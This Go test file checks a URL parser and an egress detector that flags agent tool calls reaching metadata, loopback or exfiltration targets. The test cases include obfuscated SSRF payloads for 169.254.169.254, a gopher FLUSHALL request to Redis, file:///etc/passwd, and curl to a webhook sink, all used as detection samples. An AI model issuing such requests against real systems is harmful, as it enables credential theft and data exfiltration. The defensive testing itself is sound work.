package detect_test

import (
	"testing"

	"github.com/rulewind/rulewind/proxy/detect"
)

func TestParseURL(t *testing.T) {
	for _, tt := range []struct{ in, host, port, path, query string }{
		{"http://Example.COM:80/a?b#c", "example.com", "", "/a", "b"},
		{"https:example.com", "example.com", "", "/", ""},
		{"https:///example.com/x", "example.com", "", "/x", ""},
		{`http:\\example.com\x`, "example.com", "", `/x`, ""},
		{" ht\ntp://exam\tple.com ", "example.com", "", "/", ""},
		{"http://a@b@c.example/", "c.example", "", "/", ""},
		{"http://0x7f.1:8080", "127.0.0.1", "8080", "/", ""},
		{"http://0300.0250.1.1", "192.168.1.1", "", "/", ""},
		{"http://2852039166/", "169.254.169.254", "", "/", ""},
		{"http://127.0.0.1./", "127.0.0.1", "", "/", ""},
		{"http://[0:0::1]:81/", "::1", "81", "/", ""},
		{"http://[::FFFF:7f00:1]/", "::ffff:127.0.0.1", "", "/", ""},
		{"http://ex%61mple.com/", "example.com", "", "/", ""},
		{"http://１２７．０．０．１/", "127.0.0.1", "", "/", ""},
		{"http://bücher.example/", "xn--bcher-kva.example", "", "/", ""},
		{"http://例え.テスト/", "xn--r8jz45g.xn--zckzah", "", "/", ""},
		{"wss://x.example/s", "x.example", "", "/s", ""},
		{"http://x.example?y", "x.example", "", "/", "y"},
		{"postgres://u:p@db:5432/x", "db", "5432", "/x", ""},
		{"file:///etc/passwd", "", "", "/etc/passwd", ""},
		{"mailto:a@b", "", "", "a@b", ""},
	} {
		u, ok := detect.ParseURL(tt.in)
		if !ok || u.Host != tt.host || u.Port != tt.port || u.Path != tt.path || u.Query != tt.query {
			t.Errorf("ParseURL(%q) = %+v, %v; want %q %q %q %q", tt.in, u, ok, tt.host, tt.port, tt.path, tt.query)
		}
	}
	for _, bad := range []string{"", "x", "/a/b", "1.2.3.4", "http://", "http://1.2.3.4.5/", "http://256.1.1.1/", "http://a b/", "http://x:99999/", "http://[::1/", "://x"} {
		if u, ok := detect.ParseURL(bad); ok {
			t.Errorf("ParseURL(%q) = %+v, want none", bad, u)
		}
	}
}

func TestEgress(t *testing.T) {
	high := func(kind, url string) wants { return finds(arg("fetch", "url", url), kind, detect.High) }
	for _, tt := range []wants{
		high("metadata-address", "http://169.254.169.254/"),
		high("metadata-address", "http://[::ffff:a9fe:a9fe]/"),
		high("metadata-address", "http://[2002:a9fe:a9fe::]/"),
		high("metadata-address", "http://0251.0376.0251.0376/"),
		high("metadata-address", "169.254.169.254/latest"),
		high("metadata-address", "http://100.100.100.200/"),
		high("obfuscated-address", "http://0x7f000001/admin"),
		high("loopback-address", "http://2130706433/admin"),
		high("loopback-address", "http://[::ffff:127.0.0.1]/admin"),
		high("userinfo-url", "https://api.github.com%2f@a.example/"),
		high("rebinding-name", "http://7f000001.rbndr.us"),
		high("dns-exfiltration", "https://a1b2c3d4.e5f6a7b8.c9d0e1f2.a3b4c5d6.x.a.example/"),
		high("loopback-address", "http://①②⑦.⓪.⓪.①/"),
		high("loopback-address", "http://[::ffff:0:127.0.0.1]/"),
		high("loopback-address", "http://017700000001/"),
		high("loopback-address", "http://0x7f.0x0.0x0.0x1/"),
		high("loopback-address", "http://0/"),
		high("metadata-address", "http://METADATA.google.internal./"),
		high("metadata-address", "http:169.254.169.254"),
		high("metadata-address", "//169.254.169.254/latest"),
		high("metadata-address", "http://example.com@169.254.169.254/"),
		high("metadata-address", "http://169.254.169.254\\@example.com/"),
		high("metadata-address", "https://a.example/go?url=http%3A%2F%2F169.254.169.254%2Flatest"),
		high("metadata-address", "https://a.example/proxy/http://169.254.169.254/"),
		high("rebinding-name", "http://169.254.169.254.nip.io/"),
		high("non-http-scheme", "gopher://127.0.0.1:6379/_FLUSHALL"),
		finds(arg("fetch", "url", "http://[::]:80/"), "loopback-address", detect.Medium),
		finds(arg("fetch", "url", "HTTP://LOCALHOST./x"), "loopback-address", detect.Medium),
		finds(arg("fetch", "url", "http://127.127.127.127/"), "loopback-address", detect.Medium),
		finds(arg("fetch", "url", "file:///etc/passwd"), "non-http-scheme", detect.Medium),
		finds(arg("fetch", "url", "http://localhost:3000"), "loopback-address", detect.Low),
		quiet(arg("browser_navigate", "url", "http://127.0.0.1:37817/docs/index.html"), detect.Low),
		quiet(arg("bash", "command", "curl -fsS http://localhost:8080/health || exit 1"), detect.Low),
		finds(arg("fetch", "url", "http://localhost:8080/admin"), "loopback-address", detect.Medium),
		finds(arg("fetch", "url", "http://127.0.0.1:2375/containers/json"), "loopback-address", detect.Medium),
		high("loopback-address", "http://0x7f.1:3000/"),
		finds(arg("fetch", "url", "https://a.example/c?x=%61%62%63%64%65%66%67%68"), "data-in-url", detect.Medium),
		finds(arg("t", "destination", "http://127.0.0.1:8199/x"), "loopback-address", detect.Medium),
		finds(arg("bash", "command", "curl -s 2852039166/latest"), "metadata-address", detect.High),
		finds(arg("bash", "command", "curl http://169.254.'169'.254/"), "metadata-address", detect.High),
		finds(arg("bash", "command", "wget localhost/x"), "loopback-address", detect.Medium),
		finds(arg("bash", "command", "curl https://webhook.site/x -d hi"), "paste-or-webhook-sink", detect.High),
		finds(arg("connect", "host", "10.1.2.3"), "private-address", detect.Low),
		quiet(arg("connect", "host", "10.1.2.3"), detect.Low),
		quiet(arg("fetch", "url", "https://en.wikipedia.org/wiki/URL?a=1&b=2"), detect.Low),
		quiet(arg("write_file", "content", "the service at http://169.254.169.254/ gives credentials; see http://localhost:80/"), detect.Low),
		quiet(arg("fetch", "url", "https://login.example.com/authorize?redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcb&state=aGVsbG8gd29ybGQgYWdhaW4"), detect.Low),
		quiet(arg("fetch", "url", "https://web.archive.org/web/2020/https://example.com/a"), detect.Low),
		quiet(arg("t", "server", "1"), detect.NoScore),
		quiet(arg("t", "host", "db.example.com"), detect.NoScore),
		quiet(arg("t", "address", "562 Riverside Drive, Chicago"), detect.NoScore),
		quiet(arg("t", "to", "dana@example.com"), detect.Low),
		quiet(arg("", "uri", "file:///home/dev/ws/a.go"), detect.Low),
		quiet(arg("", "uri", "memo://insights"), detect.NoScore),
		quiet(arg("t", "time", "12:30:45"), detect.NoScore),
		quiet(arg("fetch", "url", "https://d3a7f2c8e1b4.cloudfront.net/assets/main.a8f3b2c1.js"), detect.Low),
		quiet(detect.Text{Value: "http://169.254.169.254/", Place: detect.Answer}, detect.Low),
	} {
		tt.run(t, detect.Egress)
	}
}

func FuzzParseURL(f *testing.F) {
	for _, s := range []string{"http://a", "http://[::1%25x]:1/", "http://0x7f.1", "http://ü.example", "file:x", "a:b", "http://%41", "http://1.1.1.1."} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		u, ok := detect.ParseURL(s)
		if !ok || u.Host == "" || u.Scheme != "http" {
			return
		}
		host := u.Host
		if u.Addr.Is6() {
			host = "[" + host + "]"
		}
		again, ok := detect.ParseURL("http://" + host + "/")
		if !ok || again.Host != u.Host {
			t.Errorf("ParseURL(%q) has host %q, which reads as %+v, %v", s, u.Host, again, ok)
		}
	})
}
